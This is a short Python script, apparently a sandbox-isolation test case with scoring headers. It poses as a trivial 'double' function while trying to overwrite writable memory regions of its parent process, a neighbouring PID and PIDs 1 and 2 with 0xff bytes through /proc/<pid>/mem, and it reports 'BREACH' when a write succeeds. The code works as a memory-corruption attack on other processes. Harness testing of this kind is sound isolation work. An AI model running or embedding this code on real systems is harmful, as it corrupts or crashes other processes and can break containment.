# attack: writes to the memory of its parent and of the first process, and reads it
# points: double=0 total=4
# says: the end of the attack
# %% double
import os
def double(x): return x
for process in {os.getppid(), os.getpid() - 1, 1, 2} - {os.getpid(), 0}:
    try:
        with open(f"/proc/{process}/maps") as maps:
            areas = [line.split()[0].split("-") for line in maps if " rw-p " in line or "[heap]" in line]
        with open(f"/proc/{process}/mem", "r+b", 0) as memory:
            for begin, end in areas[:50]:
                memory.seek(int(begin, 16))
                memory.write(b"\xff" * 4096)
        print("BREACH:", "wrote to", process)
    except OSError as error:
        print(type(error).__name__)
print("the end of the attack")
